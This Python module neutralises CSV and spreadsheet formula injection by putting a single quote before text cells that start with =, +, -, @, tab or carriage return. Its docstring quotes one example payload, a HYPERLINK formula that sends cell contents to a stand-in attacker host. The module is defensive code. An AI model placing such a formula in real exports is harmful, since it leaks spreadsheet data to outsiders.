"""Text cells a spreadsheet would run as a formula, neutralised in every CSV and .xlsx we write.

OWASP "CSV injection": Excel and LibreOffice treat a cell starting with `=`, `+`, `-` or `@` (and a
tab or carriage return before one) as a formula, so a unit name such as
`=HYPERLINK("http://evil.example/?x="&A1,"x")` in an export becomes a live link that leaks the
sheet. The rule, applied by every writer: a *text* cell starting with one of these characters gets a
single quote in front, which spreadsheets show as text. Numbers stay numbers (-3 is written as the
number -3; only the text "-3" gets the quote). The catalogue also refuses such names outright
(`bdhvs_shared.catalogue.names`).
"""

from __future__ import annotations

from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def starts_a_formula(text: str) -> bool:
    """True for text a spreadsheet would read as a formula."""
    return text.startswith(FORMULA_STARTS)


def neutralised(value: T) -> T | str:
    """`value` itself, or, for text that would start a formula, the same text after a single quote."""
    if isinstance(value, str) and starts_a_formula(value):
        return "'" + value
    return value
